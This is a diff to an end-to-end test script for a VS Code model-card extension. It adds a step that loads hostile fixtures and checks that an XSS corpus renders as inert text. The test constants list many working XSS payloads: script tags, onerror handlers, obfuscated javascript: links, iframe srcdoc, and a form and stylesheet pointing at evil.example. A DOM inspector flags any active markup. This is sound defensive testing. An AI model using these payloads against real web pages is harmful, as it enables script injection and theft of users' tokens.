@@ -13,10 +13,12 @@
 //   6. Set Hugging Face Token; Push to Hub: progress, the repo URL, the files on the Hub emulator
 //   7. the inference test in the webview returns the summary the endpoint produced
 //   8. Run Locally on the quickstart: the job shows up under "Local" and completes
+//   9. the XSS corpus (test/fixtures/modelCardWorkspace/hostile-*) in every card field renders inert
 //
 // Each step is one test and saves screenshots as test-results/e2e/NN-name.png. A step fails on its
-// own assertions, on an error our extension logs (extension host log, our own log) and on a Content
-// Security Policy violation in our webviews while it runs. Later steps still run after a failure:
+// own assertions, on an error our extension logs (extension host log, our own log), on a Content
+// Security Policy violation in our webviews and on a script dialog (alert, confirm, prompt, print) in
+// any frame while it runs. Later steps still run after a failure:
 // what they need from an earlier step (a job, a model folder, an open card) is made without the UI
 // when the earlier step could not make it.
 //
@@ -38,6 +40,7 @@ import { delay, extensionId, repoRoot, sessionPrerequisiteProblem, startVsCodeSe
 const require = createRequire(import.meta.url);
 const resultsDir = path.join(repoRoot, 'test-results', 'e2e');
 const workspaceFixture = path.join(repoRoot, 'test', 'e2e', 'workspace');
+const hostileFixtures = path.join(repoRoot, 'test', 'fixtures', 'modelCardWorkspace');
 /** The whole run, code-server's and the emulators' lives included, ends within this. */
 const budgetSeconds = 570;
 /** How long a simulated SageMaker job takes from CreateTrainingJob to Completed. */
@@ -69,6 +72,8 @@ const diag = (text) => process.stderr.write(`e2e: ${text}\n`);
  * @property {boolean} launchedHere whether step 2 launched it through the UI
  * @property {string | undefined} modelFolder where step 5 downloaded its model
  * @property {string | undefined} pushedRepo
+ * @property {Array<{ inOurWebview: boolean, where: string, text: string }>} cspCanaries CSP reports of step 9's probe
+ * @property {string[]} dialogs script dialogs seen, in every step (each also fails its step)
  */
 
 /** @type {Array<{ n: number, name: string, timeoutSeconds: number, run: (j: Journey) => Promise<string | void> }>} */
@@ -501,6 +506,66 @@ const steps = [
       return `${jobName}: ${seen.join(' → ')} under "${last.group.label}", ${lines.length} rows in its channel; end ${announced}`;
     },
   },
+  {
+    n: 9,
+    name: 'an XSS corpus in every card field renders inert in the real webview',
+    timeoutSeconds: 90,
+    async run(j) {
+      const { wb, page } = j;
+      const dialogsBefore = j.dialogs.length;
+
+      // A run folder without README.md: the card is generated from the run files and job.json, whose
+      // metric names, hyperparameters and data set name carry the payloads. Opened as a user would
+      // from the Explorer: right-click on the folder.
+      await wb.runCommand('View: Close All Editor Groups').catch(() => undefined);
+      await wb.showExplorer();
+      await tidyForWebview(j);
+      const runRow = wb.explorerRow('hostile-run');
+      await runRow.waitFor({ state: 'visible', timeout: 10_000 });
+      await wb.contextMenu(runRow, 'Open Model Card', { timeout: 30_000 });
+      const run = await expectInertCard(j, 'hostile-run');
+      const runCard = wb.ourWebview();
+      await runCard.locator('[data-testid="results"]').evaluate((el) => el.scrollIntoView({ block: 'start' }));
+      await j.shot('hostile-run');
+
+      // A folder whose README.md is the attack: raw HTML of every kind, hostile front matter, a hostile
+      // widget text. Opened from the palette; the folder dialog gets the path typed in.
+      await wb.runCommand('View: Close All Editor Groups').catch(() => undefined);
+      await wb.runCommand('SageMaker HF: Open Model Card');
+      await wb.pickFolder(path.join(j.workspace, 'hostile-readme'));
+      const readme = await expectInertCard(j, 'hostile-readme');
+      const readmeCard = wb.ourWebview();
+      // The workbench shows the panel title (the README's model-index name) as text too.
+      const tabLabel = (await page.locator('.editor-group-container.active .tab.active .label-name').innerText()).trim();
+      expect(tabLabel === `Model Card: ${readme.expectedTitle}`, `the Model Card tab reads "${tabLabel}", not "Model Card: ${readme.expectedTitle}"`);
+      const workbenchImages = await page.locator('img[src="x"]').count();
+      expect(workbenchImages === 0, `the workbench page holds ${workbenchImages} <img src="x"> elements: the tab title was parsed as HTML`);
+      await readmeCard.locator('[data-testid="card-markdown"]').evaluate((el) => el.scrollIntoView({ block: 'start' }));
+      await j.shot('hostile-readme');
+
+      // The CSP check holds this step too: a real violation in this very frame (an image from a host
+      // the policy does not allow, never resolvable) reaches it, attributed to our webview, both as
+      // Chromium's own message and as the session's event report. The host's name marks it as the
+      // probe's, which is not counted as a violation.
+      const canariesBefore = j.cspCanaries.length;
+      await readmeCard.locator('body').evaluate((_body, host) => {
+        new Image().src = `https://${host}/probe.png`;
+      }, CSP_CANARY_HOST);
+      const probeReports = () => j.cspCanaries.slice(canariesBefore);
+      await expectSoon(
+        async () => probeReports().some((c) => c.text.startsWith('[e2e-csp]')) && probeReports().some((c) => !c.text.startsWith('[e2e-csp]')),
+        5_000,
+        async () => `an image blocked by the CSP in the Model Card webview was not reported to the journey both by Chromium and by the event (reports: ${probeReports().map((c) => c.text.slice(0, 120)).join(' | ') || 'none'}): violations in this step could go unnoticed`,
+      );
+      const unattributed = probeReports().filter((c) => !c.inOurWebview);
+      expect(unattributed.length === 0, `CSP reports from the Model Card webview are not attributed to our webview, so they would not fail the step: ${unattributed.map((c) => `"${c.text.slice(0, 100)}" at "${c.where}"`).join(' | ')}`);
+      // Give a late violation or dialog (an image error handler, a refresh) the time to show up in this step.
+      await page.waitForTimeout(500);
+      const dialogs = j.dialogs.slice(dialogsBefore);
+      expect(dialogs.length === 0, `script dialogs were opened: ${dialogs.join(' | ')}`);
+      return [run, readme].map((c) => `${c.folder}: ${c.literals} payloads shown as text in the card, ${c.cells} hostile metric names and values as results table text, ${c.checked} elements checked, nothing active`).join('; ') + '; no dialog, no CSP violation';
+    },
+  },
 ];
 
 // ── What later steps need when an earlier step could not provide it ───────────
@@ -565,11 +630,7 @@ async function ensureModelCard(j) {
   } else {
     await j.wb.runCommand('SageMaker HF: Open Model Card');
     // No job given: the simple file dialog asks for the folder.
-    const input = j.page.locator('.quick-input-widget input');
-    await input.waitFor({ state: 'visible', timeout: 10_000 });
-    await input.fill(`${folder}/`);
-    await j.page.waitForTimeout(500);
-    await j.page.locator('.quick-input-widget .monaco-button', { hasText: 'Open Model Card' }).click();
+    await j.wb.pickFolder(folder);
   }
   await expectModelCard(j);
   return card;
@@ -601,6 +662,186 @@ async function tidyForWebview(j) {
   await j.wb.clearNotifications();
   await j.wb.runCommand('View: Single Column Editor Layout');
   await j.wb.setSideBarWidth(300);
+}
+
+/**
+ * Payloads of each hostile fixture that the card must show verbatim as text: in the rendered README
+ * (the one the card generated for hostile-run, the folder's own for hostile-readme).
+ */
+const HOSTILE_TEXT = {
+  'hostile-run': [
+    // the data set name, a hyperparameter's name and its value, a note, metric names
+    'samsum<script>alert("xss-script")</script>',
+    '<img src=x onerror=alert("xss-img")>',
+    'javascript:alert("xss-hp")',
+    '[click me](javascript:alert("xss-link")) <script>alert("xss-script")</script>',
+    '<svg onload=alert("xss-value")>',
+  ],
+  'hostile-readme': [
+    'Hostile card <script>alert("xss-heading")</script>',
+    '<script>alert("xss-script")</script>',
+    '<img src=x onerror=alert("xss-img")>',
+    // (a bare `</a>` is kept as markup: it closes nothing)
+    `<a href="javascript:alert('xss-a')" onclick="alert('xss-onclick')">anchor with handlers`,
+    `<a href="  javascript:alert('xss-spaces')">spaced javascript`,
+    `<a href="jav&#x09;ascript:alert('xss-entity')">entity javascript`,
+    `<iframe src="javascript:alert('xss-iframe')"></iframe>`,
+    `<iframe srcdoc="<script>alert('xss-srcdoc')</script>"></iframe>`,
+    `<object data="javascript:alert('xss-object')"></object>`,
+    `<embed src="javascript:alert('xss-embed')">`,
+    '<style>body { display: none; }</style>',
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    `<meta http-equiv="refresh" content="0;url=javascript:alert('xss-meta')">`,
+    '<base href="https://evil.example/">',
+    `<svg onload="alert('xss-svg')"><script>alert('xss-svg-script')</script></svg>`,
+    '<form action="https://evil.example/"><input name="token" value="x"><button>send</button></form>',
+    `<video src=x onerror="alert('xss-video')"></video>`,
+    `<body onload="alert('xss-body')">`,
+    `<template><script>alert('xss-template')</script></template>`,
+    `<img src=x onerror=alert('xss-mxss')>`,
+    'Metric <script>alert("xss-table")</script>',
+    '<img src=x onerror=alert("xss-cell")>',
+    '<script>alert("inside a code block: shown as text")</script>',
+  ],
+};
+/** What the hostile-readme card must show as text outside the README: its model-index name and front matter. */
+const HOSTILE_README_TITLE = "bart-<img src=x onerror=alert('xss-name')>";
+const HOSTILE_FRONT_MATTER = ["<script>alert('xss-tag')</script>", "samsum <script>alert('xss-dataset')</script>", "<img src=x onerror=alert('xss-metric')>"];
+const HOSTILE_WIDGET = "<img src=x onerror=alert('xss-widget')>";
+/** The hub_token hyperparameter of hostile-run/job.json: a secret the card must never show. */
+const HOSTILE_SECRET = /hf_a{34}/;
+
+/**
+ * Waits for the card of the workspace folder `name` (one of the hostile fixtures) and holds what the
+ * webview's DOM shows to: payloads as text, nothing active (see inspectCardDom).
+ */
+async function expectInertCard(j, name) {
+  const card = j.wb.ourWebview();
+  const folder = path.join(j.workspace, name);
+  const folderLine = card.locator('[data-testid="card-folder"]');
+  await expectSoon(async () => (await folderLine.innerText()).startsWith(folder), 30_000, async () => `the Model Card of ${name} did not open (the card shows "${await folderLine.innerText().catch(() => 'nothing')}")`);
+  await card.locator('[data-testid="card-markdown"] *').first().waitFor({ state: 'attached', timeout: 15_000 });
+  const error = card.locator('[data-testid="card-error"]');
+  expect(!(await error.isVisible()), `the card of ${name} shows an error: ${await error.innerText().catch(() => '')}`);
+  // The curves are drawn last; once they are, the whole card has rendered.
+  await expectSoon(async () => (await card.locator('[data-testid="chart"] canvas').count()) > 0, 10_000, async () => `the card of ${name} draws no training curve`);
+  const dom = await card.locator('[data-testid="model-card-app"]').evaluate(inspectCardDom);
+
+  expect(dom.findings.length === 0, `the card of ${name} holds active markup: ${dom.findings.slice(0, 8).join('; ')}${dom.findings.length > 8 ? ` (and ${dom.findings.length - 8} more)` : ''}`);
+  expect(dom.pushButtons === 1, `the card of ${name} has ${dom.pushButtons} elements with data-testid="push-submit": the README spoofs the page's controls`);
+  const squash = (t) => t.replace(/\s+/g, ' ');
+  const readmeText = squash(dom.markdownText);
+  const fixtureReadme = name === 'hostile-readme' ? squash(fs.readFileSync(path.join(repoRoot, 'test', 'fixtures', 'modelCardWorkspace', name, 'README.md'), 'utf8')) : undefined;
+  const literals = HOSTILE_TEXT[name];
+  for (const literal of literals.map(squash)) {
+    if (fixtureReadme) expect(fixtureReadme.includes(literal), `the fixture ${name}/README.md no longer holds ${literal}: update HOSTILE_TEXT`);
+    expect(readmeText.includes(literal), `the card of ${name} does not show ${literal} as text (the rendered README reads: "${readmeText.slice(0, 300)}…")`);
+  }
+
+  // Metric names (and a string value) of the results files are table text, cell by cell: the table
+  // of each split shows its keys without the split's prefix, as `trainer.save_metrics` wrote them.
+  const fixtureDir = path.join(repoRoot, 'test', 'fixtures', 'modelCardWorkspace', name);
+  const hostile = (text) => typeof text === 'string' && /[<>]|javascript:/.test(text);
+  const expectedCells = fs
+    .readdirSync(fixtureDir)
+    .filter((f) => f.endsWith('_results.json'))
+    .flatMap((f) => {
+      const split = f.slice(0, -'_results.json'.length);
+      return Object.entries(JSON.parse(fs.readFileSync(path.join(fixtureDir, f), 'utf8'))).flatMap(([key, value]) => [
+        ...(hostile(key) ? [{ split, text: key.startsWith(`${split}_`) ? key.slice(split.length + 1) : key }] : []),
+        ...(hostile(value) ? [{ split, text: value }] : []),
+      ]);
+    });
+  expect(expectedCells.length > 0, `the fixture ${name} has no hostile metric name in its *_results.json`);
+  const nested = dom.tables.flatMap((t) => t.cells).filter((c) => c.elements > 0);
+  expect(nested.length === 0, `results table cells of ${name} hold elements: ${nested.map((c) => c.text).join(' | ')}`);
+  for (const { split, text } of expectedCells) {
+    const cells = dom.tables.find((t) => t.split === split)?.cells ?? [];
+    expect(cells.some((c) => c.text === text), `no cell of the ${split} results table of ${name} reads ${text} (cells: ${cells.map((c) => c.text).join(' | ') || 'no such table'})`);
+  }
+
+  const bodyText = dom.bodyText;
+  expect(!HOSTILE_SECRET.test(bodyText), `the card of ${name} shows the hub_token hyperparameter`);
+  const written = path.join(j.workspace, name, 'README.md');
+  if (fs.existsSync(written)) expect(!HOSTILE_SECRET.test(fs.readFileSync(written, 'utf8')), `${name}/README.md holds the hub_token hyperparameter`);
+
+  let expectedTitle;
+  expect(dom.titleElements === 0, `the card title of ${name} holds elements`);
+  if (name === 'hostile-readme') {
+    expectedTitle = HOSTILE_README_TITLE;
+    expect(dom.title === expectedTitle, `the card title reads "${dom.title}", not "${expectedTitle}"`);
+    const frontMatter = squash(dom.frontMatter.map((f) => `${f.key} ${f.value}`).join(' '));
+    for (const literal of HOSTILE_FRONT_MATTER) expect(frontMatter.includes(literal), `the card's metadata does not show ${literal} as text (it reads "${frontMatter.slice(0, 300)}")`);
+    expect(dom.frontMatter.every((f) => f.elements === 0), 'the card\'s metadata values hold elements');
+    expect(dom.inferenceText.includes(HOSTILE_WIDGET), `the inference text box holds "${dom.inferenceText.slice(0, 120)}", not the widget text with ${HOSTILE_WIDGET}`);
+    // What is safe stays: an inert card that had dropped everything would pass the checks above.
+    expect(dom.safeLinks.includes('https://huggingface.co/facebook/bart-large-cnn'), `the README's https link was dropped (links kept: ${dom.safeLinks.join(', ') || 'none'})`);
+    expect(dom.boldTexts.includes('bold HTML'), 'the README\'s <b> formatting was dropped');
+  }
+  return { folder: name, literals: literals.length, cells: expectedCells.length, checked: dom.checked, expectedTitle };
+}
+
+/**
+ * Runs in the webview's frame on the card's root element. Lists what would be active markup: in the
+ * rendered README any element that runs, loads or submits, any `on*` or `style` attribute, a link
+ * other than http(s)/mailto/#, an image other than https/data, an id, name or data-* attribute
+ * (spoofing the page's own controls); in the rest of the card, scripts, frames, handlers and
+ * javascript: links. Returns the texts the journey compares with the fixtures.
+ */
+function inspectCardDom(app) {
+  const findings = [];
+  const show = (el) => `<${el.tagName.toLowerCase()}${[...el.attributes].map((a) => ` ${a.name}="${a.value.slice(0, 60)}"`).join('')}>`;
+  const markdown = app.querySelector('[data-testid="card-markdown"]');
+  const ACTIVE = 'script, iframe, frame, frameset, object, embed, applet, style, link, meta, base, form, input, button, textarea, select, svg, math, template, video, audio, source, picture, canvas, portal, noscript';
+  for (const el of markdown.querySelectorAll(ACTIVE)) findings.push(`README: ${show(el)}`);
+  const inside = [...markdown.querySelectorAll('*')];
+  for (const el of inside) {
+    for (const { name } of el.attributes) {
+      if (/^on/i.test(name)) findings.push(`README: event handler ${name} on ${show(el)}`);
+      else if (name === 'style') findings.push(`README: style attribute on ${show(el)}`);
+      else if (name === 'id' || name === 'name' || name.startsWith('data-')) findings.push(`README: ${name} attribute on ${show(el)}`);
+      else if (['src', 'srcdoc', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'background'].includes(name) && el.tagName !== 'IMG') findings.push(`README: ${name} attribute on ${show(el)}`);
+    }
+  }
+  for (const a of markdown.querySelectorAll('[href]')) {
+    if (!/^(https?:|mailto:|#)/i.test(a.getAttribute('href').trim())) findings.push(`README: link ${show(a)}`);
+  }
+  for (const img of markdown.querySelectorAll('img')) {
+    if (!/^(https:|data:)/i.test((img.getAttribute('src') ?? '').trim())) findings.push(`README: image ${show(img)}`);
+  }
+  // The whole card (title, metadata, tables, the push and inference forms), for what must never be there.
+  for (const el of app.querySelectorAll('script, iframe, frame, object, embed, base, meta')) findings.push(`card: ${show(el)}`);
+  for (const el of [app, ...app.querySelectorAll('*')]) {
+    for (const { name, value } of el.attributes) {
+      if (/^on/i.test(name)) findings.push(`card: event handler ${name} on ${show(el)}`);
+      if (/^\s*(javascript|vbscript|data):/i.test(value) && ['href', 'src', 'action', 'formaction', 'xlink:href'].includes(name)) findings.push(`card: ${name} on ${show(el)}`);
+    }
+  }
+  const text = (el) => el?.textContent ?? '';
+  const title = app.querySelector('[data-testid="card-title"]');
+  const frontMatter = [...app.querySelectorAll('[data-testid="front-matter"] dd')].map((dd) => ({
+    key: dd.getAttribute('data-key') ?? '',
+    value: text(dd),
+    elements: dd.childElementCount,
+  }));
+  const tables = [...app.querySelectorAll('[data-testid="results-table"]')].map((table) => ({
+    split: table.getAttribute('data-split'),
+    cells: [...table.querySelectorAll('tbody td')].map((td) => ({ text: text(td), elements: td.childElementCount })),
+  }));
+  return {
+    findings,
+    checked: inside.length,
+    title: text(title),
+    titleElements: title?.childElementCount ?? -1,
+    markdownText: text(markdown),
+    frontMatter,
+    tables,
+    inferenceText: app.querySelector('[data-testid="inference-text"]')?.value ?? '',
+    pushButtons: document.querySelectorAll('[data-testid="push-submit"]').length,
+    safeLinks: [...markdown.querySelectorAll('a[href]')].map((a) => a.getAttribute('href')),
+    boldTexts: [...markdown.querySelectorAll('b, strong')].map(text),
+    bodyText: document.body.innerText,
+  };
 }
 
 // ── Checks every step is held to ──────────────────────────────────────────────
@@ -650,15 +891,44 @@ function logEntries(text) {
   return entries;
 }
 
-/** CSP violations Chromium reports from our extension's webview frames. */
-function watchCsp(page, onViolation) {
+/** The host of the image step 9 has the Model Card's CSP block, to prove the check reaches the webview. */
+const CSP_CANARY_HOST = 'e2e-csp-canary.invalid';
+
+/**
+ * CSP violations Chromium reports from our extension's webview frames. A report that names
+ * CSP_CANARY_HOST goes to `onCanary` instead, with whether it would have counted.
+ */
+function watchCsp(page, onViolation, onCanary) {
   page.on('console', (message) => {
     const text = message.text();
     if (!/Content Security Policy|Refused to /.test(text)) return;
-    const where = message.location()?.url ?? '';
+    // The session's reporter names the frame itself; Chromium's own messages come with its location.
+    const where = /^\[e2e-csp\] Content Security Policy violation in (\S+):/.exec(text)?.[1] ?? message.location()?.url ?? '';
     const inOurWebview = where.includes(`extensionId=${extensionId}`) || where.includes('/webview/browser/pre/');
-    if (inOurWebview) onViolation(text.slice(0, 400));
+    if (text.includes(CSP_CANARY_HOST)) onCanary({ inOurWebview, where, text });
+    else if (inOurWebview) onViolation(text.slice(0, 400));
     else diag(`CSP report outside our webviews (not counted): ${text.slice(0, 200)}`);
+  });
+}
+
+/**
+ * Script dialogs (alert, confirm, prompt, print) from any frame: the ones Playwright sees, the ones
+ * the sandbox of a webview swallows (Chromium says so on the console), and the calls the session's
+ * probe reports. None is legitimate in the workbench, so any is an injected script that ran.
+ */
+function watchDialogs(page, onDialog) {
+  page.on('dialog', (dialog) => {
+    // Closing the page may ask before unloading; that is the workbench, not a script we injected.
+    if (dialog.type() === 'beforeunload') {
+      dialog.accept().catch(() => {});
+      return;
+    }
+    onDialog(`${dialog.type()}("${dialog.message().slice(0, 200)}")`);
+    dialog.dismiss().catch(() => {});
+  });
+  page.on('console', (message) => {
+    const text = message.text();
+    if (text.startsWith('[e2e-dialog]') || /Ignored call to '(alert|confirm|prompt|print)\(\)'/.test(text)) onDialog(text.slice(0, 300));
   });
 }
 
@@ -731,6 +1001,8 @@ function copyWorkspace(target) {
   const leftovers = /(^|\/)(\.sagemaker-local|models|__pycache__)(\/|$)/;
   const from = path.join(repoRoot, 'examples', 'quickstart');
   fs.cpSync(from, path.join(target, 'quickstart'), { recursive: true, filter: (src) => !leftovers.test(path.relative(from, src)) });
+  // Step 9's XSS corpus: a run folder (no README.md) and a folder with a hostile README.md.
+  for (const name of ['hostile-run', 'hostile-readme']) fs.cpSync(path.join(hostileFixtures, name), path.join(target, name), { recursive: true });
 }
 
 function staleBuildWarning() {
@@ -845,7 +1117,13 @@ async function main() {
     let current;
     const stepProblems = new Map();
     const addProblem = (n, text) => stepProblems.set(n, [...(stepProblems.get(n) ?? []), text]);
-    watchCsp(page, (text) => addProblem(current?.n ?? 0, `CSP violation in our webview: ${text}`));
+    const cspCanaries = [];
+    const dialogs = [];
+    watchCsp(page, (text) => addProblem(current?.n ?? 0, `CSP violation in our webview: ${text}`), (canary) => cspCanaries.push(canary));
+    watchDialogs(page, (text) => {
+      dialogs.push(text);
+      addProblem(current?.n ?? 0, `a script dialog was opened: ${text}`);
+    });
     page.on('crash', () => {
       addProblem(current?.n ?? 0, 'the workbench page crashed');
       stop('the workbench page crashed');
@@ -868,6 +1146,8 @@ async function main() {
       launchedHere: false,
       modelFolder: undefined,
       pushedRepo: undefined,
+      cspCanaries,
+      dialogs,
     };
 
     for (const step of selected) {
